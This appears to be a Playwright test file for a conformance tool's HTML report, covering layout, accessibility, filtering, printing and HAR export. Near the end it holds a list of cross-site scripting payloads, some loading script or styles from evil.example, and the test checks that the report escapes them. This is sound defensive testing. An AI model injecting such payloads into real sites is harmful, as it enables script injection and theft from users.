import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import type { RunResult } from '../../../src/conformance/result/result.ts'
import { REPORTERS } from '../../conformance/reporters/rendering.ts'
import {
  greenRun,
  INVOCATION,
  knownRun,
  runOfTexts,
  sampleRun,
  voidRun,
} from '../../conformance/reporters/sample-run.ts'
import {
  barriersOf,
  copiedText,
  openFile,
  openWindow,
  overflowOf,
  WINDOWS,
  type WindowOptions,
} from '../../support/chromium.ts'
import { IS_FULL, sampleOf } from '../../support/size.ts'
import { tempFolder } from '../../support/temp-folder.ts'

const reportOf = (run: RunResult) => REPORTERS.html.render(run, { color: false, invocation: INVOCATION })

/** The report of a run, opened from a file. */
async function openReport(run: RunResult, options: WindowOptions = {}): Promise<Page> {
  const page = await openWindow(options)
  await openFile(page, reportOf(run))
  return page
}

const RUNS = { red: knownRun, green: greenRun, void: voidRun }
const WINDOW_OF = { red: 'dark on a phone', green: 'light', void: 'light on a phone' }

it.each(['red', 'green', 'void'] as const)(
  'of a %s run fits every window and can be read by everybody',
  async (kind) => {
    const page = await openReport(RUNS[kind]())
    const shown = (isOpen: boolean) =>
      page.evaluate(`document.querySelectorAll("details").forEach((one) => { one.open = ${isOpen} })`)
    expect(await page.evaluate('getComputedStyle(document.querySelector(".verdict")).borderTopWidth')).toBe('6px')
    // Every run in another window, but for a whole run.
    const windows = IS_FULL ? WINDOWS : WINDOWS.filter(({ name }) => name === WINDOW_OF[kind])
    for (const { name, colorScheme, viewport } of windows) {
      await page.setViewportSize(viewport)
      await page.emulateMedia({ colorScheme })
      await shown(false)
      expect(await overflowOf(page), name).toBeLessThanOrEqual(0)
      await shown(true)
      expect(await overflowOf(page), name).toBeLessThanOrEqual(0)
      expect(await barriersOf(page), name).toEqual([])
    }
  },
)

const visibleRows = (page: Page) => page.locator('tr.row:visible th').allTextContents()
const visibleCards = (page: Page) => page.locator('.card:visible > summary code').allTextContents()

it('shows only the cards and rows that were asked for, without a script', async () => {
  const page = await openReport(knownRun(), { javaScriptEnabled: false })
  expect(await visibleRows(page)).toHaveLength(9)
  await page.getByRole('radio', { name: 'Failed' }).check()
  expect(await visibleRows(page)).toEqual(['NONCE-01', 'AUTH-13'])
  expect(await visibleCards(page)).toEqual(['auth/nonce-reuse', 'auth/canonical'])
  expect(await page.locator('table.area:visible').count()).toBe(2)
  await page.getByRole('radio', { name: 'Inconclusive' }).check()
  expect(await visibleCards(page)).toEqual(['states/transfer'])
  await page.getByRole('radio', { name: 'All' }).check()
  expect(await visibleRows(page)).toHaveLength(9)
  expect(await page.locator('button:visible, input[type=search]:visible').count()).toBe(0)
})

it('finds cards and rows by any of their words, says how many, and is worked with the keyboard alone', async () => {
  const page = await openReport(knownRun())
  await page.keyboard.press('Tab')
  expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the report')
  await page.getByRole('searchbox', { name: 'Search' }).fill('NONCE-01 refused')
  expect(await visibleRows(page)).toEqual(['NONCE-01'])
  expect(await visibleCards(page)).toEqual(['auth/nonce-reuse'])
  expect(await page.locator('#found').textContent()).toBe('Scenarios: 1, requirements: 1')
  await page.getByRole('searchbox', { name: 'Search' }).fill('')
  expect(await visibleRows(page)).toHaveLength(9)
  await page.locator('#f-all').focus()
  await page.keyboard.press('ArrowRight')
  expect(await page.locator('#f-failed').isChecked()).toBe(true)
  await page.locator('.card > summary').first().focus()
  await page.keyboard.press('Enter')
  expect(await page.locator('.card').first().getAttribute('open')).toBeNull()
})

it('unfolds the passed ones where they are asked for', async () => {
  const page = await openReport(greenRun())
  expect(await visibleCards(page)).toEqual([])
  await page.getByRole('radio', { name: 'Passed' }).check()
  expect((await visibleCards(page)).length).toBeGreaterThan(0)
})

it('leads to what is hidden or folded, marks where the reader is, and copies the command that repeats a call', async () => {
  const page = await openReport(sampleRun())
  await page.getByRole('button', { name: 'Copy the call' }).first().click()
  await page.getByRole('button', { name: 'Copied' }).waitFor()
  expect(await copiedText(page)).toContain('partner-sandbox sign GET')
  await page.getByRole('radio', { name: 'Inconclusive' }).check()
  await page.getByRole('link', { name: 'auth/nonce-reuse' }).first().click()
  await page.locator('.card:target').waitFor({ state: 'visible' })
  expect(await page.locator('#f-all').isChecked()).toBe(true)
  await page.getByRole('link', { name: 'exchange s2e1' }).click()
  await page.locator('.exchange:target').waitFor({ state: 'visible' })
  expect(await page.locator('.exchange:target .xid').textContent()).toBe('s2e1')
  await page.evaluate('document.querySelector("#requirements").scrollIntoView()')
  await page.locator('nav [aria-current]', { hasText: 'Requirements' }).waitFor()
})

it('prints what is violated, on white, without transcripts', async () => {
  const page = await openReport(knownRun(), { colorScheme: 'dark' })
  await page.emulateMedia({ media: 'print' })
  expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)')
  expect(await page.locator('.failure').first().isVisible()).toBe(true)
  expect(await page.locator('.exchange:visible, nav:visible').count()).toBe(0)
})

it('is an archive that a browser can be fed from, where HAR was asked for', async () => {
  const folder = tempFolder()
  const [exchange] = sampleRun().exchanges
  const answer = {
    responseHeaders: [['content-type', 'text/html']] as const,
    responseBody: '<h1>From the archive</h1>',
  }
  const run = { ...sampleRun(), exchanges: [{ ...exchange, ...answer }] } as unknown as RunResult
  writeFileSync(join(folder, 'run.har'), REPORTERS.har.render(run, { color: false, invocation: INVOCATION }))
  const page = await openWindow()
  await page.routeFromHAR(join(folder, 'run.har'), { notFound: 'abort' })
  await page.goto('http://127.0.0.1:4600/api/partner/v1/availability?domain=a.test')
  expect(await page.getByRole('heading').textContent()).toBe('From the archive')
})

/** What has got through filters elsewhere: elements, handlers, addresses, ends of comments, styles and titles. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '\'><img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)',
  '</style><style>@import "https://evil.example/x.css";*{background:url(https://evil.example/x)}</style>',
  '</title></textarea></pre></code><body onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=x>',
  '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)>',
  '<!--><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
  '`${alert(1)}` {{constructor.constructor("alert(1)")()}}',
  '\u0000<\u0000script>alert(1)\u2028\u202e\ufeff',
]

const ELEMENTS = 'JSON.stringify([...document.querySelectorAll("*")].map(({ localName }) => localName))'

describe('what a target says', () => {
  const elementsOf = async (page: Page) => (await page.evaluate(ELEMENTS)) as string

  it.each(sampleOf(ATTACKS, 5))(
    'stands there as it is, without an element, a script or a request: %j',
    async (attack) => {
      const page = await openWindow()
      const { asked, address } = await openFile(page, reportOf(runOfTexts(knownRun(), (was) => `${was}x/y${attack}`)))
      const elements = await elementsOf(page)
      expect(asked).toEqual([address])
      expect(await page.locator('a:not([href^="#"])').count()).toBe(0)
      expect(await overflowOf(page)).toBeLessThanOrEqual(0)
      // The same text without the characters that mean something to a browser.
      const harmless = attack.replaceAll(/[<>&"'`]/g, '_')
      await openFile(page, reportOf(runOfTexts(knownRun(), (was) => `${was}x/y${harmless}`)))
      expect(elements).toBe(await elementsOf(page))
    },
  )
})
